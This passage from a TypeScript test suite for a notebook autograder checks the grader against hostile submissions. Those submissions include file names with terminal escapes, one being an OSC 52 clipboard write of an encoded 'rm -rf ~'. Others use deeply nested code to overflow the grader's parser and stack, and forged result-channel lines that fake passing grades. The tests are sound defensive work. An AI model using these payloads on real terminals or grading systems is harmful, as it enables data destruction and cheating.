    const sub = path.join(dir, 'tty');
    const out = path.join(dir, 'tty-out');
    fs.mkdirSync(sub);
    const cell = `// EXERCISE 01-forward-step: escapes
function forwardStep(): never {
  console.log(${JSON.stringify(`printed ${evil}`)});
  throw new Error(${JSON.stringify(`thrown ${evil}`)});
}`;
    fs.writeFileSync(path.join(sub, `named${evil}.ipynb`), notebook([cell]));
    fs.writeFileSync(path.join(sub, 'bytes.ipynb'), `${evil}\x1b[2J not a notebook`);
    fs.symlinkSync(path.join(sub, 'bytes.ipynb'), path.join(sub, `link${evil}.ipynb`));
    const r = spawnSync(process.execPath, ['-r', 'ts-node/register', 'scripts/grade.ts', sub, '--out', out, '--jobs', '2', '--notebook', '01-forward-process',
      ...(sandboxAvailable() ? [] : ['--unsafe-no-sandbox'])], { cwd: REPO, encoding: 'utf8', env: { ...process.env, TS_NODE_TRANSPILE_ONLY: 'true' }, timeout: 240_000 });
    expect(r.status, r.stderr).to.equal(0);
    // C0 controls but line feed and tab, DEL and C1 controls (U+0080–U+009F: 8-bit CSI and OSC)
    const control = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
    const files = [path.join(out, 'gradebook.csv'), ...fs.readdirSync(path.join(out, 'reports')).map((f) => path.join(out, 'reports', f))];
    for (const [where, text] of [['stdout', r.stdout], ['stderr', r.stderr], ...files.map((f) => [f, fs.readFileSync(f, 'utf8')])]) {
      expect(control.exec(text)?.[0], `a control character in ${where}`).to.equal(undefined);
    }
    // shown, not dropped: the instructor sees that the name holds an escape
    expect(r.stdout).to.include('named␛]52;c;cm0gLXJmIH4K␇␛[1A␛[2K.ipynb: 0 / ');
    expect(r.stderr).to.include('skipped').and.include('link␛]52;c;');
    const report = fs.readFileSync(files.find((f) => f.includes('named'))!, 'utf8');
    expect(report).to.include('printed ␛]52;c;').and.include('thrown ␛]52;c;');
    expect(fs.readdirSync(path.join(out, 'reports')).some((f) => control.test(f)), 'a control character in a report file name').to.equal(false);
  });

  // The attack (run first): 3,000 nested parentheses in one cell overflowed TypeScript's parser in the grader's own process;
  // the RangeError ended the run for the whole class, no gradebook written. Now it costs its author that exercise only.
  // Also (run first): a 20,000-deep array as the error of a forged result line made String() overflow the grader's stack.
  it("a cell that breaks the grader's own parsing (TypeScript, its result channel) costs its author that exercise, not the class its batch", async () => {
    const deep = (n: number) => `${'('.repeat(n)}w${')'.repeat(n)}`;
    const { byName, ex } = await grade('parser', {
      'victim.ipynb': SOLUTION,
      'deep-exercise.ipynb': notebook([Q_OK, `// EXERCISE test-cfg: deep\nfunction cfg_combine(epsU: tf.Tensor, epsC: tf.Tensor, w: number): tf.Tensor {\n  const k = ${deep(3000)};\n  ${CFG_OK}\n}`, SNR_CELL]),
      'deep-helper.ipynb': notebook([`const nested = ${deep(3000)};`, Q_OK, CFG_CELL, SNR_CELL]),
      'too-much-code.ipynb': notebook([`const pad = "${'x'.repeat(MAX_CODE_BYTES)}";`, Q_OK, CFG_CELL, SNR_CELL]),
      'deep-event.ipynb': notebook([Q_OK, CFG_CELL.replace('function cfg_combine', `{ const d = '['.repeat(20000) + ']'.repeat(20000); require('fs').writeSync(3, '{"e":"result","i":0,"ok":false,"error":' + d + '}\\n'); }\nfunction cfg_combine`), SNR_CELL]),
      // the same depth as a forged *value* for every case, a forged "done", and an exit before the runner answers
      'deep-value.ipynb': notebook([Q_OK, CFG_CELL.replace('function cfg_combine', `{ const fs = require('fs'); const d = '['.repeat(20000) + ']'.repeat(20000);
  for (let i = 0; i < 8; i++) fs.writeSync(3, '{"e":"result","i":' + i + ',"ok":true,"value":' + d + '}\\n');
  fs.writeSync(3, '{"e":"done"}\\n'); process.exit(0); }\nfunction cfg_combine`), SNR_CELL]),
    });
    expect(byName.get('victim.ipynb')!.exercises.map((e) => e.status)).to.deep.equal(['passed', 'passed', 'passed']);
    const deepCfg = ex('deep-exercise.ipynb', 'test-cfg');
    expect([deepCfg.points, deepCfg.reason]).to.deep.equal([0, "the exercise cell does not compile: it is nested too deeply for TypeScript's parser (its call stack overflowed; split the nested expression into named steps)"]);
    expect(ex('deep-exercise.ipynb', 'test-q-sample').status).to.equal('passed');
    // a cell the parser cannot read defines no helpers; the exercises that do not need it are graded as usual
    expect(byName.get('deep-helper.ipynb')!.exercises.map((e) => e.status)).to.deep.equal(['passed', 'passed', 'passed']);
    const big = byName.get('too-much-code.ipynb')!;
    expect(big.total).to.equal(0);
    expect(big.problem).to.match(/^its code cells hold 2\.0 MB of source, more than the 2 MB the grader reads/);
    const forged = ex('deep-event.ipynb', 'test-cfg');
    expect([forged.points, forged.reason]).to.deep.equal([0, "its result channel carried an event whose error is not text: the cell wrote to the grader's channel (only the function's return values count)"]);
    expect(ex('deep-event.ipynb', 'test-snr').status).to.equal('passed');
    const deepValue = ex('deep-value.ipynb', 'test-cfg');
    expect(deepValue.points).to.equal(0);
    expect(deepValue.checks.some((c) => c.status === 'pass'), 'a forged value passed a check').to.equal(false);
    expect(deepValue.checks.filter((c) => c.message === 'the returned value could not be read: RangeError: Maximum call stack size exceeded')).to.not.have.length(0);
    expect(ex('deep-value.ipynb', 'test-snr').status).to.equal('passed');
  });

  it('the case order is a secret permutation: it changes with the key and moves public cases among hidden ones', () => {
    const a = caseOrder(12, 'key-a', 's.ipynb', 'x');
    expect([...a].sort((p, q) => p - q)).to.deep.equal([...Array(12).keys()]);
    expect(caseOrder(12, 'key-a', 's.ipynb', 'x')).to.deep.equal(a);
    expect(caseOrder(12, 'key-b', 's.ipynb', 'x')).to.not.deep.equal(a);
    expect(caseOrder(12, 'key-a', 't.ipynb', 'x')).to.not.deep.equal(a);
    // over many keys, case 0 (a public one) lands in every position
    const positions = new Set(Array.from({ length: 300 }, (_, k) => caseOrder(12, `k${k}`, 's', 'x').indexOf(0)));
    expect(positions.size).to.equal(12);
  });
});
